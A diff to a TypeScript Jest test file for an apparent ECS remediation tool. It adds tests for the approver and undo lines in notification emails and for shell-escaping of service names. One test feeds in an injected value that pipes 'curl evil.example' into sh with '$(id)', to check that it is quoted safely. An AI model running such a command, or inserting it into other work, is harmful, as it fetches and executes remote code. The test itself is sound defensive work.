@@ -4,7 +4,7 @@ import { beforeAll, describe, expect, test } from '@jest/globals';
 import Ajv2020 from 'ajv/dist/2020.js';
 import fc from 'fast-check';
 import { diagnose } from '../../lambda/diagnose.ts';
-import type { Plan } from '../../lambda/model/remediation.ts';
+import type { Offer, Plan } from '../../lambda/model/remediation.ts';
 import { messageOf } from '../../lambda/publish/message.ts';
 import { runMessage } from '../../lambda/publish/run-message.ts';
 import type { RunEvent, RunNews } from '../../lambda/runs/news.ts';
@@ -64,6 +64,16 @@ describe.each(['applied', 'works', 'takenBack', 'refused'] as const)('a plan tha
   });
 });
 
+test('whoever takes back is told apart from who has approved', () => {
+  const { run, ...base } = news.get('takenBack') as RunNews;
+  const stuck = runMessage({ ...base, run, event: 'stuck' }, now, undoCommand).email;
+
+  for (const email of [told('takenBack').email, stuck]) {
+    expect(email).toContain(`Approved by: ${anna}`);
+    expect(email).toMatch(/aken back by: ecs-pull-doctor/);
+  }
+});
+
 test('who, what, before and after is told, and that code must follow', () => {
   const { email } = told('applied');
 
@@ -90,6 +100,16 @@ describe('a finding whose cause can be put right', () => {
       approval: 'person',
     });
     expect(message.chat).toContain('waits for approval');
+  });
+
+  test('gives a command that does nothing else, whatever the service is called', () => {
+    const offer = offered() as Offer;
+    const plan = { ...offer.plan, group: "service:web; curl evil.example | sh #'$(id)" };
+    const { email } = messageOf(diagnosis, undefined, { ...offer, plan });
+
+    expect(email.replace(/\s+/g, ' ')).toContain(
+      "--service 'web; curl evil.example | sh #'\\''$(id)' --apply --plan",
+    );
   });
 
   test('says so if nobody is asked', () => {
